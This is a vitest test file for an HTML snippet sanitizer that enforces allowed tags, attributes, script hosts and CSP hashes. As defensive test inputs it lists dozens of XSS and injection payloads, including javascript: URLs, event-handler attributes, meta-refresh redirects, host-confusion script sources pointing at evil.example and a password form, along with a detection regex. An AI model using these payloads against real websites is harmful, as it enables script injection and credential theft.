import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { prepareSnippets } from './prepare-snippets.ts';

const scriptHosts = ['tags.example'];
const inBody = (html: string) =>
  prepareSnippets({ head: '', body_begin: html, body_end: '' }, { scriptHosts });
const inHead = (html: string) =>
  prepareSnippets({ head: html, body_begin: '', body_end: '' }, { scriptHosts });
const hashOf = (text: string) => `sha256-${createHash('sha256').update(text).digest('base64')}`;

describe('[sec 24] what a snippet may hold', () => {
  test.each([
    '<meta name="verification" content="abc">',
    '<meta property="og:x" content="abc">',
    '<link rel="preconnect" href="https://tags.example">',
    '<link rel="icon" href="/icon.svg">',
    '<script async="" src="https://tags.example/a.js"></script>',
    '<script type="application/ld+json">{"@type":"Thing"}</script>',
  ])('in the head: %s', (html) => {
    expect(inHead(html)).toMatchObject({ head: html, refused: [] });
  });

  test.each([
    '<div id="chat" data-key="1"></div>',
    '<noscript><img src="https://tags.example/p.gif" width="1" height="1" alt=""></noscript>',
    '<p>A <a href="/about">link</a> &amp; <span class="x">words</span></p>',
    '<script>window.x = "</" + "p>" && 1 < 2;</script>',
  ])('in the body: %s', (html) => {
    expect(inBody(html)).toMatchObject({ bodyBegin: html, refused: [] });
  });

  test('nothing in, nothing out', () => {
    const prepared = prepareSnippets({ head: '', body_begin: '', body_end: '' }, { scriptHosts });
    expect(prepared).toMatchObject({
      head: '',
      bodyBegin: '',
      bodyEnd: '',
      scriptHashes: [],
      scriptHosts: [],
    });
  });

  test('each part stays in its place', () => {
    const prepared = prepareSnippets(
      { head: '<meta name="a" content="1">', body_begin: '<p>b</p>', body_end: '<p>c</p>' },
      { scriptHosts },
    );
    expect(prepared).toMatchObject({
      head: '<meta name="a" content="1">',
      bodyBegin: '<p>b</p>',
      bodyEnd: '<p>c</p>',
    });
  });
});

describe('[sec 24] what is taken out, and said', () => {
  const gone =
    /evil|alert|refresh|<base|<svg|<iframe|<style|onerror|onload|javascript|data:|<!--|<template|<form/i;

  test.each([
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<META HTTP-EQUIV="Refresh" CONTENT="0">',
    '<meta http-equiv=content-security-policy content="script-src evil">',
    '<meta name="referrer" content="unsafe-url-evil">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example"></object>',
    '<embed src="https://evil.example">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<style>@import "https://evil.example/x.css"</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="alternate stylesheet" href="https://evil.example/x.css">',
    '<link rel="modulepreload" href="https://evil.example/x.js">',
    '<link rel="manifest" href="https://evil.example/x.json">',
    '<svg><script>alert(1)</script></svg>',
    '<svg onload="alert(1)"></svg>',
    '<math><mtext></mtext><script>alert(1)</script></math>',
    '<template><script>alert(1)</script></template>',
    '<script src="https://evil.example/a.js"></script>',
    '<script src="https://tags.example.evil.example/a.js"></script>',
    '<script src="https://tags.example@evil.example/a.js"></script>',
    '<script src="https://tags.example:8443/evil.js"></script>',
    '<script src="//evil.example/a.js"></script>',
    '<script src="http://tags.example/evil.js"></script>',
    '<script src="/media/evil.js"></script>',
    '<script src="data:text/javascript,alert(1)"></script>',
    '<script src="javascript:alert(1)"></script>',
    '<script src=" ">alert(1)</script>',
    '<script type="importmap">{"imports":{"react":"https://evil.example"}}</script>',
    '<script type="speculationrules">{"prerender":[{"urls":["https://evil.example"]}]}</script>',
    '<noscript><meta http-equiv="refresh" content="0;url=https://evil.example"></noscript>',
    '<noscript><iframe src="https://evil.example"></iframe></noscript>',
    '<noscript><style>body{background:url(https://evil.example)}</style></noscript>',
    '<dialog open>evil</dialog>',
    '<video src="https://evil.example"></video>',
  ])('the tag: %s', (html) => {
    for (const prepared of [inHead(html), inBody(html)]) {
      expect(prepared.head + prepared.bodyBegin).not.toMatch(gone);
      expect(prepared.refused.length).toBeGreaterThan(0);
      expect(prepared.scriptHosts).toEqual([]);
      expect(prepared.scriptHashes).toEqual([]);
    }
  });

  test.each([
    '<img src="x" onerror="alert(1)">',
    '<div ONLOAD="alert(1)"></div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jAvAsCrIpT:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="data:text/html,evil">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/&#9;/evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="/" ping="https://evil.example">x</a>',
    '<div style="background:url(https://evil.example)"></div>',
    '<img src="data:image/svg+xml,evil">',
    '<img src="/a.png" srcset="https://evil.example/a.png 2x">',
    '<p is="evil-element">x</p>',
    '<script nonce="evil">1</script>',
    '<div slot="evil" popover="evil"></div>',
    '<a href="/" formaction="javascript:alert(1)">x</a>',
    '<a href="/" xlink:href="javascript:alert(1)">x</a>',
  ])('the attribute: %s', (html) => {
    const prepared = inBody(html);
    expect(prepared.bodyBegin).not.toBe('');
    expect(prepared.bodyBegin).not.toMatch(gone);
    expect(prepared.refused[0]).toContain('the attribute is not allowed');
  });

  test('comments, which some browsers gave a meaning', () => {
    expect(inBody('<p>a<!-- evil --></p><!--[if IE]><script>alert(1)</script><![endif]-->').bodyBegin).toBe(
      '<p>a</p>',
    );
  });

  test('what would end the head early', () => {
    expect(inHead('text<div>x</div><img src="/a.png"><meta name="a" content="b">')).toMatchObject({
      head: '<meta name="a" content="b">',
      refused: ['<div>: the tag may not stand in the head', '<img>: the tag may not stand in the head'],
    });
  });

  test.each([1000, 30_000])('%i tags in each other do not exhaust the stack', (count) => {
    const prepared = inBody('<div>'.repeat(count));
    expect(prepared.bodyBegin.length).toBeLessThan(400);
    expect(prepared.refused).toEqual(['<div>: tags stand too deep in each other']);
  });
});

describe('[sec 22] inline scripts and their hashes', () => {
  test.each([
    'alert("ż → 🂡")',
    '\n  let a = 1;\r\n  let b = "&amp;";\n',
    'if (1 < 2 && 3 > 2) "<p>not a tag</p>";',
    '<!-- hidden from old browsers\nrun();\n//-->',
    '',
  ])('the hash is of the very text that is sent: %j', (text) => {
    const { bodyBegin, scriptHashes } = inBody(`<p>a</p><script>${text}</script>`);
    const sent = /<script>([\s\S]*)<\/script>$/.exec(bodyBegin)?.[1] ?? 'no script';
    expect(scriptHashes).toEqual([hashOf(sent)]);
    expect(sent).toBe(text.replaceAll('\r\n', '\n'));
  });

  test('scripts inside harmless tags are found, equal ones once', () => {
    const { scriptHashes } = inBody(
      '<div><p><script>a()</script></p></div><script>a()</script><script>b()</script>',
    );
    expect(scriptHashes).toEqual([hashOf('a()'), hashOf('b()')]);
  });

  test('hosts are those of the scripts that stayed', () => {
    expect(inBody('<script src="https://tags.example/a.js"></script>').scriptHosts).toEqual([
      'https://tags.example',
    ]);
  });

  test('the same snippet under other allowed hosts is looked at anew', () => {
    const snippet = {
      head: '',
      body_begin: '<script src="https://late.example/a.js"></script>',
      body_end: '',
    };
    expect(prepareSnippets(snippet, { scriptHosts: [] }).bodyBegin).toBe('');
    expect(prepareSnippets(snippet, { scriptHosts: ['late.example'] }).bodyBegin).toContain('late.example');
  });
});
